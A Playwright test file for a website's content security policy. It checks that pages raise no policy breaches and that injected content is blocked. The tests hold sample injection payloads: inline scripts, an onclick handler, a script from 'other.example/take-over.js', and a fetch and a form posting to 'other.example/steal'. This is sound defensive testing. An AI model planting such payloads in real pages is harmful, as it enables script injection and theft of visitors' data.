import type { Page } from '@playwright/test';
import { expect, test } from '../support/fixtures.ts';
import { everyPage } from '../support/visited.ts';

/** Notes each breach of the content security policy by its directive, from the first moment of a page. */
async function watchBreaches(page: Page): Promise<string[]> {
	const breaches: string[] = [];
	await page.exposeFunction('noteBreach', (directive: string) => breaches.push(directive));
	await page.addInitScript(() => {
		document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
			const note: unknown = Reflect.get(window, 'noteBreach');
			if (typeof note === 'function') note(effectiveDirective);
		});
	});
	return breaches;
}

/** Reaches for each island of a page, as somebody does who tries everything, and waits until all have started. */
async function wakeEverything(page: Page): Promise<void> {
	for (const island of await page
		.locator('astro-island:not([client=path]) [data-island]')
		.filter({ visible: true })
		.all()) {
		await island.scrollIntoViewIfNeeded();
		await island.hover();
		await expect(island).toHaveAttribute('data-hydrated', '');
	}
}

for (const path of [...everyPage, '/blog/no-such-post']) {
	test(`${path} keeps to its own policy, with every interactive part awake`, async ({ page, guard }) => {
		if (path === '/no-such-page') guard.allowLog(/status of 404/);
		const breaches = await watchBreaches(page);
		await page.goto(path);
		await expect(page.locator('meta[http-equiv="content-security-policy"]')).toHaveCount(1);
		await wakeEverything(page);
		expect(breaches).toEqual([]);
	});
}

test.describe('what somebody manages to put into a page does not run', () => {
	const logs = [/Content Security Policy/];

	/** Visits a page with markup of an attacker at its end. */
	async function visitWith(page: Page, markup: string): Promise<void> {
		await page.route('**/about', async (route) => {
			const answer = await route.fetch();
			await route.fulfill({ response: answer, body: (await answer.text()).replace('</main>', `${markup}</main>`) });
		});
		await page.goto('/about');
	}

	test('a script in the page', async ({ page, guard }) => {
		guard.allowLog(...logs);
		const breaches = await watchBreaches(page);
		await visitWith(page, '<script>document.title = "taken over"</script>');
		await expect.poll(() => breaches).toEqual(['script-src-elem']);
		await expect(page).not.toHaveTitle('taken over');
	});

	test('an event attribute', async ({ page, guard }) => {
		guard.allowLog(...logs);
		const breaches = await watchBreaches(page);
		await visitWith(page, '<button onclick="document.title = \'taken over\'">Win a prize</button>');
		await page.getByRole('button', { name: 'Win a prize' }).click();
		await expect.poll(() => breaches).toEqual(['script-src-attr']);
		await expect(page).not.toHaveTitle('taken over');
	});

	test('a script from another host', async ({ page, guard }) => {
		guard.allowLog(...logs);
		// The browser names the request, but stops it before it leaves.
		guard.allowOrigin('https://other.example');
		const breaches = await watchBreaches(page);
		await visitWith(page, '<script src="https://other.example/take-over.js"></script>');
		await expect.poll(() => breaches).toEqual(['script-src-elem']);
	});

	test('a style attribute', async ({ page, guard }) => {
		guard.allowLog(...logs);
		const breaches = await watchBreaches(page);
		await visitWith(page, '<p style="position: fixed">Covers the page</p>');
		await expect.poll(() => breaches).toEqual(['style-src-attr']);
		await expect(page.getByText('Covers the page')).not.toHaveCSS('position', 'fixed');
	});

	test('a call to a host that is not on the list', async ({ page, guard }) => {
		guard.allowLog(...logs, /Refused to connect|violates the document/);
		const breaches = await watchBreaches(page);
		await page.goto('/about');
		const outcome = await page.evaluate(() =>
			fetch('https://other.example/steal', { method: 'POST', body: 'text' }).then(
				() => 'sent',
				() => 'refused',
			),
		);
		expect(outcome).toBe('refused');
		await expect.poll(() => breaches).toEqual(['connect-src']);
	});

	test('a form that posts to another host', async ({ page, guard }) => {
		guard.allowLog(...logs);
		const breaches = await watchBreaches(page);
		await page.goto('/about');
		await page.evaluate(() => {
			const form = document.createElement('form');
			Object.assign(form, { action: 'https://other.example/steal', method: 'post' });
			document.body.append(form);
			form.requestSubmit();
		});
		await expect.poll(() => breaches).toEqual(['form-action']);
	});

	test('a text that a script hands to the page as HTML', async ({ page, guard }) => {
		guard.allowLog(...logs, /TrustedHTML/);
		const breaches = await watchBreaches(page);
		await page.goto('/about');
		const outcome = await page.evaluate(() => {
			try {
				document.body.innerHTML = '<p>taken over</p>';
				return 'shown';
			} catch (error) {
				return error instanceof TypeError ? 'refused' : 'failed otherwise';
			}
		});
		expect(outcome).toBe('refused');
		await expect.poll(() => breaches).toEqual(['require-trusted-types-for']);
	});
});
